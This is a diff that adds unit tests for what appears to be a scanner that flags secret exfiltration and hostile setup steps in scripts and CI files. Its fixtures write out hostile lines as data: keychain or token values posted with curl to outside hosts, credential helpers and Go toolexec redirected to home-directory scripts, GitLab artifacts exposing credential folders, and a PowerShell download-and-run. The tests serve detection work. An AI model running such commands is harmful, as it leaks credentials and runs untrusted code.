@@ -336,3 +336,76 @@ def test_other_keychain_item_sent_out_still_blocks(tmp_path: Path) -> None:
 def test_own_keychain_item_sent_to_a_raw_address_still_blocks(tmp_path: Path) -> None:
     sh = 'k=$(security find-generic-password -s tideline-key -w)\ncurl -s -d "$k" http://203.0.113.40/k\n'
     assert "SY-FLOW-001" in blocking(tmp_path, {"tides.sh": sh}, _STORE_ONCE)
+
+
+# ------------------------------------------------ review holes: PAT names, helpers, .git/config, artifacts
+
+
+def test_pat_name_with_a_digit_after_it_is_a_secret(tmp_path: Path) -> None:
+    sh = 'curl -s -d "t=$FORGE_PAT2" https://203.0.113.8/t\n'
+    assert "SY-FLOW-001" in blocking(tmp_path, {"s.sh": sh})
+
+
+def test_path_variable_sent_is_not_a_secret(tmp_path: Path) -> None:
+    sh = 'curl -s -d "p=$PATH" https://api.tools.example.test/env\n'
+    assert blocking(tmp_path, {"s.sh": sh}) == {}
+
+
+def test_git_credential_helper_set_to_a_script_in_home_blocks(tmp_path: Path) -> None:
+    sh = 'git config --global credential.helper "$HOME/.cache/vcs/cred-helper"\n'
+    assert "SY-FLOW-003" in blocking(tmp_path, {"setup.sh": sh})
+
+
+def test_aws_credential_process_set_to_a_helper_in_home_blocks(tmp_path: Path) -> None:
+    sh = 'aws configure set profile.ci.credential_process "$HOME/.aws/bin/fetch-creds ci"\n'
+    assert "SY-FLOW-003" in blocking(tmp_path, {"setup.sh": sh})
+
+
+def test_go_toolexec_set_to_a_helper_in_home_blocks(tmp_path: Path) -> None:
+    sh = "go env -w GOFLAGS=-toolexec=$HOME/.local/share/gt/wrap\n"
+    assert "SY-FLOW-003" in blocking(tmp_path, {"setup.sh": sh})
+
+
+def test_helpers_that_are_installed_programs_do_not_block(tmp_path: Path) -> None:
+    sh = (
+        "git config --global credential.helper osxkeychain\n"
+        'aws configure set credential_process "aws-vault export --format=json dev"\n'
+        "kubectl config set-credentials dev --exec-command=gke-gcloud-auth-plugin\n"
+        'git config --global core.pager "/usr/bin/less -R"\n'
+    )
+    assert blocking(tmp_path, {"setup.sh": sh}) == {}
+
+
+def test_checkout_extraheader_read_and_sent_blocks(tmp_path: Path) -> None:
+    sh = 'a=$(git config --local --get-all http.https://github.com/.extraheader)\ncurl -s -H "X-A: $a" https://collect.example.test/\n'
+    assert "SY-FLOW-001" in blocking(tmp_path, {"ci.sh": sh})
+
+
+def test_remote_url_read_for_a_name_does_not_block(tmp_path: Path) -> None:
+    sh = 'u=$(git config --get remote.origin.url)\necho "repo: ${u##*/}"\n'
+    assert blocking(tmp_path, {"ci.sh": sh}) == {}
+
+
+def test_gitlab_artifacts_of_the_whole_tree_block(tmp_path: Path) -> None:
+    ci = "pack:\n  script:\n    - make dist\n  artifacts:\n    expire_in: 1 week\n    paths:\n      - ./\n"
+    assert "SY-FLOW-001" in blocking(tmp_path, {".gitlab-ci.yml": ci})
+
+
+def test_gitlab_artifacts_of_a_credential_folder_block(tmp_path: Path) -> None:
+    ci = "dbg:\n  script:\n    - env | sort\n  artifacts:\n    paths:\n      - $HOME/.docker\n"
+    assert "SY-FLOW-001" in blocking(tmp_path, {".gitlab-ci.yml": ci})
+
+
+def test_gitlab_artifacts_of_a_build_folder_do_not_block(tmp_path: Path) -> None:
+    ci = "pack:\n  script:\n    - make dist\n  artifacts:\n    paths:\n      - dist/\n      - coverage.xml\n"
+    assert blocking(tmp_path, {".gitlab-ci.yml": ci}) == {}
+
+
+def test_powershell_download_started_through_another_name_blocks(tmp_path: Path) -> None:
+    ps = (
+        '$out = Join-Path $env:TEMP "setup.exe"\n'
+        "Invoke-WebRequest -Uri https://dl.example.test/setup.exe -OutFile $out\n"
+        "$run = $out\n"
+        "Start-Process $run -Wait\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"get.ps1": ps})
